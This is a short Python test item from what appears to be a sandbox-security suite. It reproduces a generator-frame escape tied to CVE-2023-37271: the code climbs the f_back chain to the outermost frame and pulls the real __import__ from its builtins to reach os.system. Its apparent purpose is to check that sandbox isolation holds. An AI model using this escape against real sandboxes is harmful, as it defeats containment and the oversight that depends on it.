# title: Climb from a generator's frame
# tries: Reads the frame of a generator while it runs and climbs to the frames of its callers, where the builtins are the real ones.
# impact: Integrity
# reference: CVE-2023-37271
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    def climb():
        yield running.gi_frame.f_back

    running = climb()
    frame = next(running)
    while frame.f_back:
        frame = frame.f_back
    return f"{frame.f_builtins['__import__']('os').system} by the outermost frame"
